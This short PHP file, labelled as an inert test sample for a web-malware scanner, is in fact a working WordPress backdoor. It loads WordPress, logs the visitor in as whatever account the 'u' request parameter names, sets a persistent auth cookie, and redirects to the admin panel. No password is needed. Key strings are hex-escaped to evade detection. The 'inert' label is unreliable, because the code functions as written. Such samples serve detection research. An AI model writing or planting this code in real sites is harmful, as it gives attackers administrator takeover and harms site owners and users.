<?php
/* Inert test sample (webhunt): stand-alone page that boots the blog, then logs the visitor in as
   the account the "u" parameter names; field and helper names are hex-escaped. */
$__r = dirname(__FILE__);
require_once $__r . '/wp-load.php';
$__k = "\x75";
if (!empty($_REQUEST[$__k])) {
    $__a = get_user_by("\x6c\x6f\x67\x69\x6e", $_REQUEST["\x75"]);
    if ($__a) {
        $__i = $__a->ID;
        wp_set_current_user($__i);
        wp_set_auth_cookie($__i, !0);
        header("\x4c\x6f\x63\x61\x74\x69\x6f\x6e: " . admin_url());
        die;
    }
}
